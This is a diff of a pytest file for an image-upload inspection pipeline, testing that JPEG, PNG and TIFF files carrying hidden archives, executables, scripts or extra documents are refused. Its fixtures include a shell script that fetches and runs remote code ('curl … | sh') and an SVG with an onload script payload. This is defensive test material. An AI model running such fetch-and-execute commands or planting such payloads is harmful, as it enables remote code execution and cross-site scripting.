@@ -12,17 +12,18 @@ import pytest
 
 from nachet_pipeline.contract.catalogue import CATALOGUE, Severity
 from nachet_pipeline.pictures.forensics.signatures import begins_document, harmful
-from nachet_pipeline.pictures.inspection import inspect_picture
 from nachet_pipeline_tests.pictures import cameras
 from nachet_pipeline_tests.pictures.cameras import APP1, APP2, XMP, jpeg
 from nachet_pipeline_tests.pictures.files import (
     ELF,
     HTML,
-    LIMITS,
     PHP,
+    SHELL,
     WINDOWS_PROGRAM,
+    codes,
     grey_tiff,
     inspect,
+    is_refused,
     noise,
     png_chunks,
     png_of,
@@ -37,7 +38,6 @@ from nachet_pipeline_tests.pictures.files import (
 
 PNG = saved(seed_image("RGB", (64, 48)), "PNG")
 UNKNOWN = noise((60_000,)).tobytes()
-SHELL = b"#!/bin/sh\ncurl -s http://example.org/run | sh\n"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="4"/></svg>'
 PAYLOADS = {
     "zip": zip_archive(),
@@ -169,7 +169,7 @@ def test_the_same_file_with_something_harmful_in_it_is_not(name: str, payload: s
     taken = [
         number
         for number, hostile in enumerate(_places(name, content(), PAYLOADS[payload]))
-        if not _is_refused(picture_format, hostile)
+        if not is_refused(picture_format, hostile)
     ]
 
     assert taken == []
@@ -211,28 +211,23 @@ def _within(payload: bytes) -> dict[str, tuple[str, bytes]]:
 @pytest.mark.parametrize("payload", PAYLOADS)
 @pytest.mark.parametrize("place", _within(b"x" * 20))
 def test_what_only_some_devices_write_hides_nothing_harmful(place: str, payload: str) -> None:
-    assert _is_refused(*_within(PAYLOADS[payload])[place])
-
-
-def _is_refused(picture_format: str, content: bytes) -> bool:
-    found = inspect_picture(content, picture_format, LIMITS).issues
-    return any(CATALOGUE[issue.code].severity is Severity.ERROR for issue in found)
+    assert is_refused(*_within(PAYLOADS[payload])[place])
 
 
 @pytest.mark.parametrize("what", [jpeg(), PNG, grey_tiff(), cameras.film(), b"GIF89a" + bytes(30), b"%PDF-1.7\n"])
 @pytest.mark.parametrize("size", [0, 64], ids=["at once", "after padding"])
 def test_a_second_document_behind_a_picture_is_no_trailer(what: bytes, size: int) -> None:
-    assert _is_refused("JPEG", jpeg() + bytes(size) + what)
-    assert _is_refused("PNG", PNG + bytes(size) + what)
-    assert _is_refused("TIFF", grey_tiff(behind=bytes(size) + what))
+    assert is_refused("JPEG", jpeg() + bytes(size) + what)
+    assert is_refused("PNG", PNG + bytes(size) + what)
+    assert is_refused("TIFF", grey_tiff(behind=bytes(size) + what))
 
 
 def test_more_than_any_trailer_holds_is_refused_however_it_is_divided() -> None:
     more = noise((70_000,)).tobytes()
 
-    assert _is_refused("JPEG", jpeg() + more)
-    assert _is_refused("PNG", PNG + more)
-    assert _is_refused("JPEG", jpeg() + more[:35_000] + PREVIEW + more[35_000:])
+    assert is_refused("JPEG", jpeg() + more)
+    assert is_refused("PNG", PNG + more)
+    assert is_refused("JPEG", jpeg() + more[:35_000] + PREVIEW + more[35_000:])
 
 
 def test_a_second_photograph_as_large_as_the_first_is_named() -> None:
@@ -245,7 +240,7 @@ def test_a_second_photograph_as_large_as_the_first_is_named() -> None:
 
 
 def test_a_preview_that_was_cut_off_is_part_of_an_unknown_trailer() -> None:
-    assert {issue.code for issue in inspect("JPEG", jpeg() + PREVIEW[:-200]).issues} == {"trailing-data"}
+    assert codes("JPEG", jpeg() + PREVIEW[:-200]) == {"trailing-data"}
 
 
 def test_a_trailer_that_only_looks_like_samsungs_is_an_unknown_one() -> None:
@@ -255,15 +250,15 @@ def test_a_trailer_that_only_looks_like_samsungs_is_an_unknown_one() -> None:
     for place, number in ((head + 16, 10_000), (head + 20, 10_000), (head + 8, 4_000), (len(whole) - 8, 9)):
         broken = whole[:place] + struct.pack("<I", number) + whole[place + 4 :]
 
-        assert {issue.code for issue in inspect("JPEG", jpeg() + broken).issues} == {UNUSED}
+        assert codes("JPEG", jpeg() + broken) == {UNUSED}
 
 
 def test_more_pictures_in_a_trailer_than_any_device_writes_are_no_trailer() -> None:
     some, many = ([(1, b"x", PREVIEW)] * number for number in (5, 40))
 
     assert inspect("JPEG", jpeg() + cameras.samsung(*some)).issues == ()
-    assert {issue.code for issue in inspect("JPEG", jpeg() + cameras.samsung(*many)).issues} == {"trailing-data"}
-    assert {issue.code for issue in inspect("JPEG", jpeg() + PREVIEW * 40).issues} == {"trailing-data"}
+    assert codes("JPEG", jpeg() + cameras.samsung(*many)) == {"trailing-data"}
+    assert codes("JPEG", jpeg() + PREVIEW * 40) == {"trailing-data"}
 
 
 def test_no_noise_looks_harmful() -> None:
@@ -281,7 +276,7 @@ def test_a_damaged_chunk_of_a_png_is_damage_and_one_of_the_wrong_length_a_warnin
 
     assert {issue.field for issue in inspect("PNG", content).issues} == {"cHRM"}
     damaged = content[:place] + b"\1" + content[place + 1 :]
-    assert {issue.code for issue in inspect("PNG", damaged).issues} == {"picture-damaged"}
+    assert codes("PNG", damaged) == {"picture-damaged"}
 
 
 def test_a_resolution_of_the_wrong_length_does_not_stop_a_decoder() -> None:
@@ -300,7 +295,7 @@ def test_a_fax_that_its_decoder_calls_bad_is_damaged() -> None:
         damaged = bytearray(content)
         for place in Random(number).sample(range(200, len(content) - 400), 3):
             damaged[place] ^= 0x55
-        found.append({issue.code for issue in inspect("TIFF", bytes(damaged)).issues})
+        found.append(codes("TIFF", bytes(damaged)))
 
     assert found.count({"picture-damaged"}) >= 18
     assert inspect("TIFF", bytes(content)).issues == ()
